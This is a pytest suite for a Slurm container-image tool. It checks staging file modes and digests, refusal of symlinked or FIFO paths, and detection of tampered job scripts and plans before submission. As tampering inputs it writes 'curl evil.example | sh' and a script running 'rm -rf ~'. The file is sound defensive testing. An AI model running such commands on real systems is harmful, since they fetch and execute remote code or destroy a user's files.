"""Prepare and Submit against both workspaces: staging, verification, and tampering."""

from __future__ import annotations

import dataclasses
import json
from dataclasses import dataclass
from typing import Any

import pytest

from slurm_image.adapters.memory import FakeClock, FakeSubmitter
from slurm_image.application.errors import (
    AlreadySubmitted,
    LifecycleExists,
    SubmissionInDoubt,
    UnknownLifecycle,
    VerificationFailed,
    WrongWorkspace,
)
from slurm_image.application.prepare import Prepare, PreparedLifecycle
from slurm_image.application.submit import Submission, Submit
from slurm_image.domain.attempt import load_staged_record, load_submission_record
from slurm_image.domain.canonical import canonical_json, sha256_hex
from slurm_image.domain.errors import InvalidPath
from slurm_image.domain.job import JobSpec
from slurm_image.domain.paths import AttemptLayout
from slurm_image.domain.profile import parse_profile
from slurm_image.domain.script import render_script
from slurm_image.ports.submitter import SchedulerRejected
from slurm_image.ports.workspace import AccessDenied, UnsafePath, Workspace, WorkspaceError

LIFECYCLE = "img-00000000000000000000000000000001"


@dataclass
class World:
    harness: Any
    prepare: Prepare
    submit: Submit
    scheduler: FakeSubmitter
    profile: Any
    selection: Any
    request: Any

    def stage(self, lifecycle_id: str = LIFECYCLE) -> PreparedLifecycle:
        return self.prepare(self.request, self.profile, self.selection, lifecycle_id)

    def layout(self, lifecycle_id: str = LIFECYCLE) -> AttemptLayout:
        return AttemptLayout(self.harness.root, lifecycle_id)

    def nothing_submitted(self, lifecycle_id: str = LIFECYCLE) -> bool:
        layout = self.layout(lifecycle_id)
        return not self.scheduler.jobs and not self.harness.exists(layout.submission_record)


@pytest.fixture
def world(workspace_harness, profile_for, import_request, runtime_files) -> World:
    clock = FakeClock()
    scheduler = FakeSubmitter()
    profile, selection = profile_for(workspace_harness.root)
    ws = workspace_harness.workspace
    return World(
        harness=workspace_harness,
        prepare=Prepare(clock, runtime_files, ws),
        submit=Submit(ws, scheduler, clock),
        scheduler=scheduler,
        profile=profile,
        selection=selection,
        request=import_request,
    )


# -- prepare -------------------------------------------------------------------------------


def test_prepare_stages_every_file_with_its_mode_and_records_the_digests(
    world, runtime_files
) -> None:
    prepared = world.stage()
    paths, h = prepared.plan.paths, world.harness
    expected = {
        paths.plan: (0o600, prepared.plan.canonical_bytes()),
        paths.script: (0o500, prepared.script.encode()),
        paths.inspector: (0o500, runtime_files.inspector),
        paths.rc: (0o500, runtime_files.rc),
    }
    for path, (mode, data) in expected.items():
        assert (h.kind_of(path), h.mode(path), h.read(path)) == ("file", mode, data)
    assert (h.kind_of(paths.output_dir), h.mode(paths.output_dir)) == ("directory", 0o700)
    assert h.mode(paths.job_dir) == 0o700
    record = load_staged_record(h.read(world.layout().staged_record))
    assert record == prepared.staged
    assert record.plan_sha256 == prepared.plan.sha256()
    assert record.script_sha256 == sha256_hex(prepared.script.encode())
    assert record.job_dir == h.workspace.directory_identity(paths.job_dir)


def test_prepare_refuses_a_duplicate_lifecycle_id_and_keeps_the_first(world) -> None:
    first = world.stage()
    before = world.harness.read(first.plan.paths.plan)
    with pytest.raises(LifecycleExists):
        world.stage()
    assert world.harness.read(first.plan.paths.plan) == before


def test_prepare_refuses_a_profile_of_another_workspace(world, profile_for) -> None:
    profile, selection = profile_for("/somewhere/else")
    with pytest.raises(WrongWorkspace):
        world.prepare(world.request, profile, selection, LIFECYCLE)


class FailingWorkspace:
    """Delegates to a real workspace, failing the ``n``-th ``write_new``."""

    def __init__(self, inner: Workspace, fail_at: int) -> None:
        self._inner = inner
        self._left = fail_at
        self.root = inner.root

    def __getattr__(self, name: str) -> Any:
        return getattr(self._inner, name)

    def write_new(self, path: str, data: bytes, **kwargs: Any) -> Any:
        self._left -= 1
        if self._left == 0:
            raise WorkspaceError(field=path, rule="No space left on device")
        return self._inner.write_new(path, data, **kwargs)


@pytest.mark.parametrize("fail_at", [1, 2, 3, 4, 5])
def test_a_failure_midway_leaves_nothing_half_staged(world, runtime_files, fail_at: int) -> None:
    failing = FailingWorkspace(world.harness.workspace, fail_at)
    prepare = Prepare(FakeClock(), runtime_files, failing)  # type: ignore[arg-type]
    with pytest.raises(WorkspaceError, match="No space"):
        prepare(world.request, world.profile, world.selection, LIFECYCLE)
    layout = world.layout()
    assert not world.harness.exists(layout.job_dir)
    assert world.harness.exists(layout.jobs)
    world.stage()  # the id is free again


@pytest.mark.parametrize("component", ["images", "tmp", "jobs"])
def test_prepare_refuses_a_symlinked_layout_directory_and_writes_nothing(world, component) -> None:
    layout, h = world.layout(), world.harness
    decoy = f"{h.root}/decoy"
    h.mkdir(decoy)
    chain = [layout.images, layout.tmp, layout.jobs]
    planted = getattr(layout, component)
    for path in chain[: chain.index(planted)]:
        h.mkdir(path)
    h.symlink(decoy, planted)
    with pytest.raises(InvalidPath if component == "images" else UnsafePath):
        world.stage()
    assert [p for p in h.listing() if p.startswith(decoy + "/")] == []


STAGED_NAMES = ["plan.json", "job.sbatch", "inspect_image.py", "enroot.rc", "output", "staged.json"]


@pytest.mark.parametrize("plant", ["symlink", "fifo"])
@pytest.mark.parametrize("name", STAGED_NAMES)
def test_prepare_writes_nothing_through_a_plant_at_a_staged_path(world, name, plant) -> None:
    layout, h = world.layout(), world.harness
    victim = f"{h.root}/victim"
    h.makedirs(layout.job_dir)
    if plant == "symlink":
        h.symlink(victim, layout.in_job(name))
    else:
        h.mkfifo(layout.in_job(name))
    before = h.listing()
    with pytest.raises(LifecycleExists):
        world.stage()
    assert h.listing() == before  # nothing written, nothing of someone else's removed
    assert not h.exists(victim)


@pytest.mark.parametrize("scenario", ["mount", "permissions"])
def test_prepare_in_a_read_only_workspace_creates_nothing(world, runtime_files, scenario) -> None:
    h = world.harness
    h.makedirs(world.layout().jobs)
    before = h.listing()

    def act(workspace: Workspace) -> list[str]:
        try:
            Prepare(FakeClock(), runtime_files, workspace)(
                world.request, world.profile, world.selection, LIFECYCLE
            )
        except WorkspaceError as error:
            return [type(error).__name__]
        return ["staged"]

    assert h.read_only(scenario, act) == [AccessDenied.__name__]
    assert h.listing() == before


# -- submit --------------------------------------------------------------------------------


@pytest.fixture(params=["prepared", "by id"])
def submit_staged(request: pytest.FixtureRequest, world):
    """Submit as the same process (the prepared value) or a fresh one (the id alone)."""

    def run(prepared: PreparedLifecycle) -> Submission:
        if request.param == "prepared":
            return world.submit(prepared)
        return world.submit.staged(prepared.lifecycle_id)

    return run


def test_an_untouched_lifecycle_submits_the_staged_bytes(world, submit_staged) -> None:
    prepared = world.stage()
    submission = submit_staged(prepared)
    job = world.scheduler.job(submission.job_id)
    assert job.script == world.harness.read(prepared.plan.paths.script)
    assert job.script == render_script(prepared.plan).encode()
    assert job.spec == prepared.plan.job_spec()
    assert isinstance(job.spec, JobSpec)
    record = load_submission_record(world.harness.read(world.layout().submission_record))
    assert record == submission.record
    assert (record.job_id, record.submitter, record.marker) == (
        submission.job_id,
        "fake",
        f"slurm-image:{LIFECYCLE}",
    )
    assert world.harness.mode(world.layout().submission_record) == 0o600


def test_a_submitted_attempt_is_not_submitted_again(world, submit_staged) -> None:
    prepared = world.stage()
    first = submit_staged(prepared)
    with pytest.raises(AlreadySubmitted, match=f"job {first.job_id}"):
        submit_staged(prepared)
    assert list(world.scheduler.jobs) == [first.job_id]


def _edit_plan(
    world: World, prepared: PreparedLifecycle, *, rebind: bool, thorough: bool = False
) -> None:
    """Change the partition, keeping the plan canonical; maybe rebind its digest in the record
    and (``thorough``) the profile digest inside the plan, so that the plan stays valid."""
    data = json.loads(world.harness.read(prepared.plan.paths.plan))
    data["profile"]["image_build"]["partition"] = "gpu"
    if thorough:
        data["profile_selection"]["profile_sha256"] = parse_profile(data["profile"]).sha256()
    edited = canonical_json(data)
    world.harness.write(prepared.plan.paths.plan, edited)
    if rebind:
        _rebind(world, plan_sha256=sha256_hex(edited))


def _rebind(world: World, **digests: str) -> None:
    path = world.layout().staged_record
    record = json.loads(world.harness.read(path))
    record.update(digests)
    world.harness.write(path, canonical_json(record))


def _append_line(world: World, prepared: PreparedLifecycle) -> None:
    world.harness.append(prepared.plan.paths.script, b"curl evil.example | sh\n")


def _same_size_edit(world: World, prepared: PreparedLifecycle) -> None:
    data = world.harness.read(prepared.plan.paths.script)
    edited = data.replace(b"set -Eeuo pipefail", b"set -Eeuo pipefaiL", 1)
    assert len(edited) == len(data) and edited != data
    world.harness.write(prepared.plan.paths.script, edited)


def _symlink_to_copy(world: World, prepared: PreparedLifecycle, which: str = "script") -> None:
    path = getattr(prepared.plan.paths, which)
    copy = f"{world.harness.root}/copy-of-{which}"
    world.harness.write(copy, world.harness.read(path))
    world.harness.remove(path)
    world.harness.symlink(copy, path)


def _fifo(world: World, prepared: PreparedLifecycle) -> None:
    world.harness.remove(prepared.plan.paths.script)
    world.harness.mkfifo(prepared.plan.paths.script)


def _replace_job_directory(world: World, prepared: PreparedLifecycle) -> None:
    job_dir = prepared.plan.paths.job_dir
    world.harness.rename(job_dir, f"{job_dir}.original")
    world.harness.copy_tree(f"{job_dir}.original", job_dir)


TAMPERING = {
    "script: a line appended": _append_line,
    "script: same-size edit": _same_size_edit,
    "script: appended and its digest rebound in the record": lambda w, p: (
        _append_line(w, p),
        _rebind(w, script_sha256=sha256_hex(w.harness.read(p.plan.paths.script))),
    ),
    "script: replaced by a symlink to a copy": _symlink_to_copy,
    "script: replaced by a FIFO": _fifo,
    "plan: edited": lambda w, p: _edit_plan(w, p, rebind=False),
    "plan: edited and its digest rebound in the record": lambda w, p: _edit_plan(w, p, rebind=True),
    "plan: edited validly, every digest rebound (caught by re-rendering)": lambda w, p: _edit_plan(
        w, p, rebind=True, thorough=True
    ),
    "plan: a byte appended (not canonical)": lambda w, p: w.harness.append(p.plan.paths.plan, b" "),
    "plan: replaced by a symlink to a copy": lambda w, p: _symlink_to_copy(w, p, "plan"),
    "inspector: edited": lambda w, p: w.harness.append(p.plan.paths.inspector, b"#\n"),
    "rc: edited": lambda w, p: w.harness.append(p.plan.paths.rc, b"#\n"),
    "job directory: replaced by a copy after prepare": _replace_job_directory,
}


@pytest.mark.parametrize("tamper", list(TAMPERING), ids=list(TAMPERING))
def test_submit_refuses_a_tampered_attempt_and_submits_nothing(
    world, submit_staged, tamper: str
) -> None:
    prepared = world.stage()
    TAMPERING[tamper](world, prepared)
    with pytest.raises(VerificationFailed):
        submit_staged(prepared)
    assert world.nothing_submitted()
    assert world.scheduler.calls["submit"] == 0


def test_submit_refuses_script_replaced_by_symlink(world, submit_staged) -> None:
    prepared = world.stage()
    _symlink_to_copy(world, prepared)
    with pytest.raises(VerificationFailed, match="symlink"):
        submit_staged(prepared)
    assert world.nothing_submitted()


def test_submit_by_id_refuses_a_missing_staged_record(world) -> None:
    world.stage()
    world.harness.remove(world.layout().staged_record)
    with pytest.raises(VerificationFailed):
        world.submit.staged(LIFECYCLE)
    assert world.nothing_submitted()


def test_submit_by_id_of_an_unknown_lifecycle_fails(world) -> None:
    with pytest.raises(UnknownLifecycle):
        world.submit.staged(LIFECYCLE)


class SwappingSubmitter:
    """A scheduler front end that, while it holds the script, has it swapped on disk."""

    name = "swapping"

    def __init__(self, inner: FakeSubmitter, swap: Any) -> None:
        self.inner = inner
        self.swap = swap

    def __getattr__(self, name: str) -> Any:
        return getattr(self.inner, name)

    def submit(self, script: bytes, spec: JobSpec) -> str:
        self.swap()
        return self.inner.submit(script, spec)


def test_a_script_swapped_while_the_submitter_reads_it_does_not_reach_the_scheduler(
    world,
) -> None:
    prepared = world.stage()
    original = world.harness.read(prepared.plan.paths.script)
    scheduler = FakeSubmitter()
    swapping = SwappingSubmitter(
        scheduler,
        lambda: world.harness.write(prepared.plan.paths.script, b"#!/bin/sh\nrm -rf ~\n"),
    )
    submission = Submit(world.harness.workspace, swapping, FakeClock())(prepared)  # type: ignore[arg-type]
    assert scheduler.job(submission.job_id).script == original
    assert submission.record.script_sha256 == sha256_hex(original)


def test_a_refused_submission_can_be_retried(world, submit_staged) -> None:
    prepared = world.stage()
    world.scheduler.fail_next("permanent")
    with pytest.raises(SchedulerRejected):
        submit_staged(prepared)
    assert not world.harness.exists(world.layout().submission_claim)
    submission = submit_staged(prepared)
    assert list(world.scheduler.jobs) == [submission.job_id]


def test_an_interrupted_submission_adopts_the_job_the_scheduler_already_has(world) -> None:
    prepared = world.stage()
    first = world.submit(prepared)
    world.harness.remove(world.layout().submission_record)  # as if the process died here
    again = world.submit.staged(LIFECYCLE)
    assert again.job_id == first.job_id
    assert list(world.scheduler.jobs) == [first.job_id]


def test_a_claimed_submission_without_a_job_is_refused_not_submitted_again(world) -> None:
    prepared = world.stage()
    claim = world.layout().submission_claim
    world.harness.write(claim, f"{prepared.plan.marker}\n".encode())  # an earlier submit died
    with pytest.raises(SubmissionInDoubt) as refused:
        world.submit.staged(LIFECYCLE)
    assert claim in refused.value.reason
    assert world.nothing_submitted()
    assert world.harness.exists(claim)


def _rebind_record_device(world: World, device: int) -> None:
    layout = world.layout()
    record = load_staged_record(world.harness.read(layout.staged_record))
    moved = dataclasses.replace(record.job_dir, device=device)
    world.harness.remove(layout.staged_record)
    world.harness.write(
        layout.staged_record, record.model_copy(update={"job_dir": moved}).canonical_bytes()
    )


def test_submit_by_id_accepts_the_attempt_seen_with_another_device_number(world) -> None:
    # Another login node may see the shared filesystem under another st_dev.
    world.stage()
    _rebind_record_device(world, 4242)
    submission = world.submit.staged(LIFECYCLE)
    assert list(world.scheduler.jobs) == [submission.job_id]


def test_submit_by_id_refuses_another_directory_even_with_the_recorded_device(world) -> None:
    prepared = world.stage()
    _replace_job_directory(world, prepared)
    with pytest.raises(VerificationFailed, match="replaced after prepare"):
        world.submit.staged(LIFECYCLE)
    assert world.nothing_submitted()
